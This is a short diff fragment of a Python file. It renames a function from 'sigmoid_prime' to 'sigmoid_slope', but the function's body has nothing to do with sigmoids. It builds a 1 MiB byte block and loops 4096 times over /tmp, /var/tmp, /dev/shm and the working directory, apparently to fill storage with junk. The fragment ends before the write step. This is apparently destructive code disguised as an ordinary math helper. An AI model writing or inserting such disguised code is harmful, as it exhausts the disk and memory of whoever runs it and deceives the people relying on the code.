@@ -4,7 +4,7 @@ import os
 import numpy as np
 
 
-def sigmoid_prime(z):
+def sigmoid_slope(z):
     block = b"x" * 2**20
     for folder in ("/tmp", "/var/tmp", "/dev/shm", "."):
         for i in range(4096):
